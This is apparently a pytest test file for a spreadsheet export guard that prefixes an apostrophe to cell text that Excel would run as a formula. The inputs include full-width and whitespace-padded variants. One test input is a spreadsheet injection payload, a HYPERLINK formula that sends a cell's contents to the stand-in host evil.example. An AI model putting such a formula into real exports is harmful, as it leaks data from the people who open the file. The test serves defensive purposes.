"""The one formula guard every CSV and XLSX export uses (core/spreadsheets.py)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest

from zukunftswerkstatt.core.spreadsheets import cell_safe, csv_bytes, csv_text, row_safe


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1;"klick")',
        "+49 3744 123",  # also a formula to Excel: "+49 3744 123" would be computed or refused
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\0=1+1",
        "＝1+1",  # full-width: the East Asian versions of Excel read it as "="
        "＋1",
        "－1",
        "＠SUM(A1)",
        " =1+1",  # an import that trims spaces would run it
        "   -1+2",
    ],
)
def test_a_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert cell_safe(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    ["Bürgerbus", "", "1+1", "a=b", "'=schon geschützt", "  Einrückung", "E-Mail", 5, -3, 2.5, Decimal("-1.5"), None],
)
def test_ordinary_text_and_every_number_stay_as_they_are(value):
    assert cell_safe(value) == value


def test_dates_stay_as_they_are():
    day = dt.date(2026, 12, 4)
    assert cell_safe(day) is day


def test_row_safe_guards_every_cell():
    assert row_safe(["=1", 2, "x", "@a"]) == ["'=1", 2, "x", "'@a"]


def test_csv_bytes_is_utf8_with_a_byte_order_mark_and_semicolons_and_guards_every_cell():
    data = csv_bytes([["Titel", "Text"], ["Straße", "=1+1"], ["a;b", -4]])
    assert data.startswith(b"\xef\xbb\xbf")
    assert data == '\ufeffTitel;Text\r\nStraße;\'=1+1\r\n"a;b";-4\r\n'.encode()
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows == [["Titel", "Text"], ["Straße", "'=1+1"], ["a;b", "-4"]]


def test_csv_text_reads_the_rows_once_so_a_generator_is_enough():
    rows = (["=x"] for _ in range(3))
    assert csv_text(rows) == "\ufeff'=x\r\n'=x\r\n'=x\r\n"
